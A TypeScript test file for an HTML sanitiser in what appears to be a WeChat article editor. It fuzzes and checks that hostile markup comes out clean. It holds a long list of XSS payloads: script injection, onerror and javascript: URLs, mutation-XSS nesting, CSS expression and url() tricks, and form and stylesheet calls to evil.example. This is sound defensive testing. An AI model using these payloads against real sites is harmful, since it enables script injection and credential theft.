/** What comes out of the sanitiser is read by a parser of its own, and by WeChat's filter as the simulator plays it. */
import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, it, test } from 'vitest'
import { sanitise } from '@/lib/article/sanitise'
import { articleOfTemplate, templateIds } from '@/lib/article/templates'
import { importMarkdown } from '@/lib/article/markdown'

const runs = { numRuns: Number(process.env.PROVE) ? 20_000 : 200 }
const library = '/api/media/019a1b2c-3d4e-4f50-8a6b-7c8d9e0f1a2b/file'
const ofWechat = 'https://mmbiz.qpic.cn/sz_mmbiz_png/abc/0?wx_fmt=png'

/** Everything that must never be there, however it got in. */
function faultsOf(html: string): string[] {
  const faults: string[] = []
  const tags =
    /^(p|div|section|article|header|footer|main|aside|span|br|hr|wbr|h[1-6]|blockquote|pre|code|strong|b|em|i|u|s|del|ins|sub|sup|mark|small|q|cite|abbr|ruby|rt|rp|ul|ol|li|dl|dt|dd|table|caption|colgroup|col|thead|tbody|tfoot|tr|td|th|figure|figcaption|img|a|mp-miniprogram)$/
  const attributes =
    /^(style|src|href|alt|width|height|colspan|rowspan|span|start|border|cellpadding|cellspacing|align|valign|data-miniprogram-(appid|path|title|imageurl))$/
  const parser = new Parser({
    onopentag(name, given) {
      if (!tags.test(name)) faults.push(`<${name}>`)
      for (const [key, value] of Object.entries(given)) {
        if (!attributes.test(key)) faults.push(`${name}.${key}`)
        if (key === 'href' && !/^https?:\/\//i.test(value)) faults.push(`href ${value}`)
        if (key === 'src' && !/^(https?:\/\/|\/api\/media\/[0-9a-f-]{36}\/file$)/i.test(value))
          faults.push(`src ${value}`)
        if (
          key === 'style' &&
          /url|expression|import|script|position|behavio|binding|\\|\/\*|@|[<>{}]/i.test(value)
        )
          faults.push(`style ${value}`)
        if (key === 'style' && /margin[^;]*:[^;]*-\d/i.test(value)) faults.push(`style ${value}`)
      }
    },
    oncomment: (text) => faults.push(`comment ${text}`),
    onprocessinginstruction: (name) => faults.push(`instruction ${name}`),
  })
  parser.end(html)
  return faults
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script/>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)"/>',
  '<img """><script>alert("XSS")</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="javascript:alert(1) 1x" src="https://a.example/b.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="x()" target="_top" download ping="https://evil.example">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object><embed src="x.swf"><applet code=x></applet>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<base href="https://evil.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=javascript:x">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:x">go</button></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background:u\\72l(https://evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="-moz-binding:url(x);behavior:url(x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
  '<div style="margin:-5000px;margin-left:calc(-1 * 100vw)">x</div>',
  '<div style="color:red;}body{display:none">x</div>',
  '<div style="color:red\\3b position:fixed">x</div>',
  '<div style="--x:url(https://evil.example);background:var(--x)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example\' 1x)">x</div>',
  '<div style="font-family:\'a\\27;background:url(x)\'">x</div>',
  '<div style=\'font-family:"</style><script>alert(1)</script>"\'>x</div>',
  '<style>@import url(https://evil.example);p{background:url(x)}</style><p>x</p>',
  '<style>p{position:fixed}</style><style><!-- b{color:red} --></style><p>x</p>',
  '<style><img src=x onerror=alert(1)></style>',
  '<style>*{width:expression(alert(1))}</style><p>x',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  '<p id="x" class="y" name="z" data-x="1" contenteditable is="x-y">x</p>',
  '<x-custom onclick=1>words</x-custom><template><script>1</script></template><slot>y</slot>',
  '<p><a href="https://a.example"><a href="https://b.example">x</p></a></a>',
  '<table><img src=x onerror=alert(1)><tr><td><script>1</script>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<p>ſcript <ſcript>alert(1)</ſcript> ＜script＞alert(1)＜/script＞</p>',
  '\ud800<p title="\udfff">half</p>',
  '<a href="https:/\\evil.example">x</a><a href="http:evil">x</a><a href="https://">x</a>',
  '<img src="/api/media/../../etc/passwd"><img src="/api/media/x/file"><img src="//h/x.png">',
  '<img src="https://mmbiz.qpic.cn.evil.example/x"><img src="https://mmbiz.qpic.cn@evil.example/x">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;',
  '<p style',
  '<p style="color:red',
  '<img src="https://a.example/x.png" alt="&quot; onerror=&quot;alert(1)">',
  '<mp-miniprogram data-miniprogram-appid="wx0000000000000000" data-miniprogram-path="javascript:x()" data-miniprogram-imageurl="https://evil.example/x"></mp-miniprogram>',
  '<font face="x;position:fixed" color="red;background:url(x)" size="7">x</font>',
  '<td width="100%" background="https://evil.example/x.png" onmouseover=1 colspan="99999999">x</td>',
]

describe('hostile HTML', () => {
  it.each(hostile)('%s', (html) => {
    for (const text of [html, `<p>before ${html} after</p>`, html + html]) {
      const once = sanitise(text)
      expect(faultsOf(once.html), once.html).toEqual([])
      expect(sanitise(once.html).html).toBe(once.html)
    }
  })

  it('keeps no word of a script, a style or a drawing', () => {
    const { html, removed } = sanitise(
      '<p>a</p><script>one</script><style>two</style><svg><text>three</text></svg>b',
    )
    expect(html).toBe('<p>a</p>b')
    expect(removed).toEqual([
      { what: 'script', count: 1 },
      { what: 'drawing', count: 1 },
    ])
  })

  // Each of them would keep the server busy for minutes, and did, if every rule were followed to its end.
  it.each([
    ['siblings', `.no ~ p ~ p ~ p{color:red}`, '<p>x</p>'.repeat(3000)],
    ['ancestors', `.no b b b b b{color:red}`, `${'<b>'.repeat(300)}x${'</b>'.repeat(300)}`.repeat(100)],
    ['places', `p:nth-child(2n){color:red}`, '<p>x</p>'.repeat(20_000)],
    ['rules', '*{color:red}'.repeat(1000), '<p>x</p>'.repeat(5000)],
    ['styles', `*{${'color:red;'.repeat(5000)}}`, '<p>x</p>'.repeat(5000)],
  ])('a style sheet that is about all %s of a long page costs no more than it is worth', (_, css, html) => {
    expect(sanitise(`<style>${css}</style>${html}`).html).toContain('x')
  })

  it.each([
    ['<img alt="x">', ''],
    ['<div hidden><p>y<br><img></p><col></div>', ''],
    ['<b style="display:none">y</b><i>z</i>', '<i>z</i>'],
  ])('%s goes whole, and thousands of them as fast', (gone, left) => {
    const one = `<p>words</p>${gone}`
    expect(sanitise(one.repeat(8000)).html).toBe(`<p>words</p>${left}`.repeat(8000))
  })

  it('nested without end keeps its words and takes no time', () => {
    const started = performance.now()
    const { html, removed } = sanitise(`<b>${'<div>'.repeat(100_000)}words</b>`)
    expect(html).toBe('<p>words</p>')
    expect(removed).toEqual([{ what: 'structure', count: 1 }])
    expect(performance.now() - started).toBeLessThan(5000)
  })
})

describe('fuzz', () => {
  const word = fc.oneof(
    fc.constantFrom(...hostile),
    fc.constantFrom(
      ...'p div span b table tr td li ul svg math style script img a title textarea mglyph mtext noscript pre hr x-y body center font'
        .split(' ')
        .flatMap((name) => [
          `<${name}>`,
          `</${name}>`,
          `<${name} style="color:red;margin:-1px"`,
          `<${name}/>`,
        ]),
    ),
    fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '`',
        '&',
        ';',
        '&#60;',
        '&lt',
        '<!--',
        '-->',
        '--!>',
        '<![CDATA[',
        ']]>',
        '\\',
        '{',
        '}',
      ],
      ...[
        ' onerror=x ',
        ' src=javascript:x ',
        ' href="java\tscript:x"',
        ' style="',
        'url(',
        '/*',
        '*/',
        '@import',
        '\u0000',
        '\u2028',
      ],
    ),
    fc.string({ unit: 'binary', maxLength: 8 }),
  )
  const soup = fc.array(word, { maxLength: 14 }).map((words) => words.join(''))

  it('never lets anything through, and a second time changes nothing', () => {
    fc.assert(
      fc.property(soup, (html) => {
        const once = sanitise(html).html
        expect(faultsOf(once), once).toEqual([])
        expect(sanitise(once)).toMatchObject({ html: once, removed: [] })
      }),
      runs,
    )
  })

  it('through Markdown neither', () => {
    fc.assert(
      fc.property(soup, (text) => {
        const { html } = importMarkdown(text)
        expect(faultsOf(html), html).toEqual([])
        expect(sanitise(html).html).toBe(html)
      }),
      runs,
    )
  })
})

describe('looks', () => {
  test.each<[given: string, kept: string]>([
    ['<P CLASS="a" ID=b>x</P>', '<p>x</p>'],
    ['<p style="COLOR: Red; text-align : center ;">x</p>', '<p style="color:Red;text-align:center">x</p>'],
    ['<p style="color:red;color:blue">x</p>', '<p style="color:blue">x</p>'],
    [
      '<p style="color:red !important;mso-bidi-font-size:10pt;cursor:pointer">x</p>',
      '<p style="color:red !important">x</p>',
    ],
    [
      '<p style="font-size:1.2em;line-height:1.75;letter-spacing:-0.5px">x</p>',
      '<p style="font-size:1.2em;line-height:1.75;letter-spacing:-0.5px">x</p>',
    ],
    ['<p style="font-size:900px;width:4000px;height:9999em;padding:-1px">x</p>', '<p>x</p>'],
    [
      '<p style="font-family:\'微软雅黑\', &quot;PingFang SC&quot;">x</p>',
      '<p style="font-family:\'微软雅黑\', &quot;PingFang SC&quot;">x</p>',
    ],
    [
      '<b style="background:linear-gradient(90deg,#fff 0%,rgba(1,2,3,.5) 100%)">x</b>',
      '<b style="background:linear-gradient(90deg,#fff 0%,rgba(1,2,3,.5) 100%)">x</b>',
    ],
    ['<font color="#ff0000" size="5">x</font>', '<span style="color:#ff0000;font-size:24px">x</span>'],
    ['<center>x</center>', '<section style="text-align:center">x</section>'],
    [
      '<style>.a{color:red}p{color:blue;font-size:14px}</style><p class="a">x</p>',
      '<p style="font-size:14px;color:red">x</p>',
    ],
    ['<style>p{color:red!important}</style><p style="color:blue">x</p>', '<p style="color:red">x</p>'],
    ['<style>@media print{p{color:red}} p:hover{color:red} p::before{color:red}</style><p>x</p>', '<p>x</p>'],
    [
      '<style>#i{color:#111}.c{color:#222}p{color:#333}</style><p id="i" class="c">x</p>',
      '<p style="color:#111">x</p>',
    ],
    [
      '<style>section > .c + p{color:red} section > p{color:blue}</style><section><b class="c d">x</b><p>y</p></section>',
      '<section><b>x</b><p style="color:red">y</p></section>',
    ],
    [
      '<style>li:nth-child(2n), li:not(.c):first-child{color:red} li[data-a="1"]{color:blue}</style><ul><li>a</li><li data-a=1>b</li></ul>',
      '<ul><li style="color:red">a</li><li style="color:blue">b</li></ul>',
    ],
    ['<o:p>x</o:p><nav>y</nav>', 'xy'],
    ['<a name="top">x</a><a href="#top">y</a>', '<a>x</a><a>y</a>'],
    ['<ul><li>a<li>b</ul>', '<ul><li>a</li><li>b</li></ul>'],
    [
      `<img class=x src="${library}" alt="a&b" width=300 onload=x>`,
      `<img src="${library}" alt="a&amp;b" width="300" />`,
    ],
    [`<img src="data:image/gif;base64,R0" data-src="${ofWechat}">`, `<img src="${ofWechat}" />`],
    ['<p>a &lt;b&gt; &amp; &quot;c&quot; 😀 &nbsp;</p>', '<p>a &lt;b&gt; &amp; "c" 😀 \u00a0</p>'],
  ])('%s', (given, kept) => {
    expect(sanitise(given).html).toBe(kept)
  })

  it('says what went, and which pictures are elsewhere', () => {
    const { removed, foreignPictures } = sanitise(
      `<p style="position:absolute;background:url(x)" onclick="x">a</p><img src="https://b.example/1.png">
       <img src="https://b.example/1.png"><img src="file:///C:/x.png"><img src="${library}"><img src="${ofWechat}">
       <p style="display:none">secret</p><a href="mailto:a@b.c">m</a><iframe src="https://v.qq.com"></iframe><video></video><input>`,
    )
    expect(foreignPictures).toEqual(['https://b.example/1.png'])
    expect(Object.fromEntries(removed.map(({ what, count }) => [what, count]))).toEqual({
      ...{
        handler: 1,
        frame: 1,
        form: 1,
        media: 1,
        hidden: 1,
        link: 1,
        picture: 1,
        placement: 1,
        backgroundPicture: 1,
      },
    })
  })

  it.each(templateIds.flatMap((id) => [[id, 'zh-CN'] as const, [id, 'en'] as const]))(
    'of the layout %s (%s) stay as they are',
    (id, language) => {
      const { html } = articleOfTemplate(id, language)
      expect(sanitise(html)).toEqual({ html, removed: [], foreignPictures: [] })
    },
  )
})
